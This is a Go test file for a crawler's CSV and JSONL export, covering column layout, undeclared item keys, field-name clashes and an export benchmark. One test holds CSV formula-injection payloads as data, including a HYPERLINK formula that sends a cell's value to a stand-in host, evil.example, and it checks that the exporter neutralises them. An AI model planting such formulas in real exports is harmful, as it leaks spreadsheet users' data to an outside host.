package crawlctl_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"

	"github.com/crawlmesh/crawlmesh/pkg/crawlctl"
	"github.com/crawlmesh/crawlmesh/pkg/mesh"
	"github.com/crawlmesh/crawlmesh/pkg/spec"
	"github.com/crawlmesh/crawlmesh/streams"
	"github.com/crawlmesh/crawlmesh/streams/streamstest"
)

// exportCrawl stores items (their data) as crawl id's results in a real
// RESULTS stream, each on page base+"/p<i>", and exports them as format.
// The crawl record holds specYAML as crawlctl.Start stores it.
func exportCrawl(t *testing.T, specYAML, format string, data []map[string]any) (stored [][]byte, out string) {
	t.Helper()
	_, js := streamstest.Start(t, streams.Options{})
	s, err := spec.Parse([]byte(specYAML))
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := json.Marshal(s)
	cr := &mesh.Crawl{ID: "t-1", Spider: s.Name, State: mesh.CrawlCompleted, Spec: raw}
	at := time.Date(2026, 11, 27, 12, 0, 0, 0, time.UTC)
	for i, d := range data {
		b, _ := json.Marshal(mesh.Item{URL: pageURL(i), Spider: s.Name, Crawl: cr.ID, Depth: i, FetchedAt: at, Data: d})
		if _, err := js.Publish(t.Context(), mesh.ResultSubject(cr.ID), b,
			jetstream.WithMsgID(mesh.ItemID(cr.ID, pageURL(i), 0))); err != nil {
			t.Fatal(err)
		}
		stored = append(stored, b)
	}
	var buf bytes.Buffer
	n, err := crawlctl.Export(t.Context(), js, cr, format, &buf, 5*time.Second)
	if err != nil {
		t.Fatalf("export %s: %v", format, err)
	}
	if n != len(data) {
		t.Errorf("export %s: %d items, want %d", format, n, len(data))
	}
	return stored, buf.String()
}

func pageURL(i int) string { return "http://127.0.0.1:1/p" + strings.Repeat("x", i) }

// readCSV reads an export with encoding/csv: its header must have unique
// names; each row comes back as column name -> value.
func readCSV(t *testing.T, out string) ([]string, []map[string]string) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(recs) == 0 {
		t.Fatalf("csv: %v (%d records)\n%s", err, len(recs), out)
	}
	header := recs[0]
	seen := map[string]bool{}
	for _, h := range header {
		if seen[h] {
			t.Errorf("csv header %q: column %q twice", header, h)
		}
		seen[h] = true
	}
	var rows []map[string]string
	for _, rec := range recs[1:] {
		row := map[string]string{}
		for i, h := range header {
			row[h] = rec[i]
		}
		rows = append(rows, row)
	}
	return header, rows
}

// scriptSpec is a script: spider's: the spec declares no item fields.
const scriptSpec = `name: s
start_urls: ["http://127.0.0.1:1/"]
script: |
  function parse(page) { return {items: [{title: page.url}]}; }
`

// TestExportCSVUndeclaredKeys: a script spider's items (no fields in its
// spec), with different key sets from item to item, export as csv with
// one column per key, sorted, after the fixed ones; each row holds its
// item's values ("" for a key it lacks, a list as its JSON). The jsonl
// export is the stored items, as they are.
func TestExportCSVUndeclaredKeys(t *testing.T) {
	data := []map[string]any{
		{"title": "A", "price": "1.50"},
		{"title": "B", "tags": []string{"x", "y"}},
		{"sku": "s-3", "price": "3"},
		{},
	}
	_, out := exportCrawl(t, scriptSpec, "csv", data)
	header, rows := readCSV(t, out)
	want := []string{"url", "spider", "crawl", "depth", "fetched_at", "price", "sku", "tags", "title"}
	if !slices.Equal(header, want) {
		t.Fatalf("csv header %q, want %q", header, want)
	}
	if len(rows) != len(data) {
		t.Fatalf("%d csv rows, want %d:\n%s", len(rows), len(data), out)
	}
	for i, d := range data {
		row := rows[i]
		if row["url"] != pageURL(i) || row["spider"] != "s" || row["crawl"] != "t-1" || row["fetched_at"] != "2026-11-27T12:00:00Z" {
			t.Errorf("row %d: fixed columns %v", i, row)
		}
		for _, k := range want[5:] {
			wantV := ""
			switch v := d[k].(type) {
			case string:
				wantV = v
			case []string:
				b, _ := json.Marshal(v)
				wantV = string(b)
			}
			if row[k] != wantV {
				t.Errorf("row %d column %s: %q, want %q", i, k, row[k], wantV)
			}
		}
	}

	stored, out := exportCrawl(t, scriptSpec, "jsonl", data)
	if want := string(bytes.Join(stored, []byte("\n"))) + "\n"; out != want {
		t.Errorf("jsonl export:\n%s\nwant the stored items:\n%s", out, want)
	}
}

// TestExportCSVDataNamedLikeFixedColumn: an item field named url (the
// demo spider has one) is the column data.url next to url, the page's
// URL; declared fields come first, in the order the spec writes them
// (url before title, though a crawl record stores the spec as JSON), then
// keys no field declares.
func TestExportCSVDataNamedLikeFixedColumn(t *testing.T) {
	const declared = `name: d
start_urls: ["http://127.0.0.1:1/"]
items:
  - selector: article
    fields:
      url: {css: "h3 a", attr: href}
      title: {css: "h3 a"}
`
	data := []map[string]any{
		{"url": "http://127.0.0.1:1/book/1", "title": "One", "depth": "deep", "note": "extra"},
		{"url": "http://127.0.0.1:1/book/2", "title": "Two"},
	}
	_, out := exportCrawl(t, declared, "csv", data)
	header, rows := readCSV(t, out)
	want := []string{"url", "spider", "crawl", "depth", "fetched_at", "data.url", "title", "data.depth", "note"}
	if !slices.Equal(header, want) {
		t.Fatalf("csv header %q, want %q", header, want)
	}
	if len(rows) != 2 {
		t.Fatalf("%d csv rows, want 2:\n%s", len(rows), out)
	}
	for i, d := range data {
		row := rows[i]
		if row["url"] != pageURL(i) || row["data.url"] != d["url"] || row["title"] != d["title"] {
			t.Errorf("row %d: url %q data.url %q title %q, want %q %q %q", i, row["url"], row["data.url"], row["title"], pageURL(i), d["url"], d["title"])
		}
		if row["depth"] != []string{"0", "1"}[i] {
			t.Errorf("row %d: depth %q, want the page's, %d", i, row["depth"], i)
		}
	}
	if rows[0]["data.depth"] != "deep" || rows[0]["note"] != "extra" || rows[1]["note"] != "" {
		t.Errorf("undeclared keys: %v / %v", rows[0], rows[1])
	}
}

// TestExportCSVFormulasNeutralised: values a spreadsheet would run as a
// formula (= + - @ tab CR first) come out after a single quote, in cells
// and in the header (a data key is the page's choice too); numbers and
// other text are left as they are. The jsonl export keeps them as stored.
func TestExportCSVFormulasNeutralised(t *testing.T) {
	cells := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+1+1":       "'+1+1",
		"@SUM(1)":    "'@SUM(1)",
		"-2+3":       "'-2+3",
		"\tx":        "'\tx",
		"\r=1":       "'\r=1",
		"-":          "'-",
		"-5":         "-5",
		"+3.2":       "+3.2",
		"-1.5e3":     "-1.5e3",
		"12":         "12",
		"a=1":        "a=1",
		"":           "",
		"plain text": "plain text",
	}
	var data []map[string]any
	var in []string
	for v := range cells {
		in = append(in, v)
	}
	slices.Sort(in)
	for _, v := range in {
		data = append(data, map[string]any{"v": v, "=key": "x"})
	}
	_, out := exportCrawl(t, scriptSpec, "csv", data)
	header, rows := readCSV(t, out)
	if want := []string{"url", "spider", "crawl", "depth", "fetched_at", "'=key", "v"}; !slices.Equal(header, want) {
		t.Fatalf("csv header %q, want %q", header, want)
	}
	for i, v := range in {
		if rows[i]["v"] != cells[v] {
			t.Errorf("value %q: cell %q, want %q", v, rows[i]["v"], cells[v])
		}
	}
	stored, out := exportCrawl(t, scriptSpec, "jsonl", data)
	if want := string(bytes.Join(stored, []byte("\n"))) + "\n"; out != want {
		t.Errorf("jsonl export:\n%s\nwant the stored items:\n%s", out, want)
	}
}

// BenchmarkExport: one export of a crawl of 20000 items with a few keys
// each, jsonl (one read) and csv (two reads), from a real RESULTS stream.
func BenchmarkExport(b *testing.B) {
	_, js := streamstest.Start(b, streams.Options{})
	s, err := spec.Parse([]byte(scriptSpec))
	if err != nil {
		b.Fatal(err)
	}
	raw, _ := json.Marshal(s)
	cr := &mesh.Crawl{ID: "b-1", Spider: s.Name, State: mesh.CrawlCompleted, Spec: raw}
	const items = 20000
	for i := range items {
		u := "http://127.0.0.1:1/p/" + strconv.Itoa(i)
		data := map[string]any{"title": "t" + strconv.Itoa(i), "price": "1.00", "k" + strconv.Itoa(i%7): "v"}
		m, _ := json.Marshal(mesh.Item{URL: u, Spider: s.Name, Crawl: cr.ID, FetchedAt: time.Now().UTC(), Data: data})
		if _, err := js.PublishAsync(mesh.ResultSubject(cr.ID), m, jetstream.WithMsgID(mesh.ItemID(cr.ID, u, 0))); err != nil {
			b.Fatal(err)
		}
	}
	select {
	case <-js.PublishAsyncComplete():
	case <-time.After(time.Minute):
		b.Fatal("publishing the items took over a minute")
	}
	for _, format := range []string{"jsonl", "csv"} {
		b.Run(format, func(b *testing.B) {
			for b.Loop() {
				n, err := crawlctl.Export(b.Context(), js, cr, format, io.Discard, 5*time.Second)
				if err != nil || n != items {
					b.Fatalf("%d items, %v; want %d", n, err, items)
				}
			}
			b.ReportMetric(float64(items)*float64(b.N)/b.Elapsed().Seconds(), "items/s")
		})
	}
}
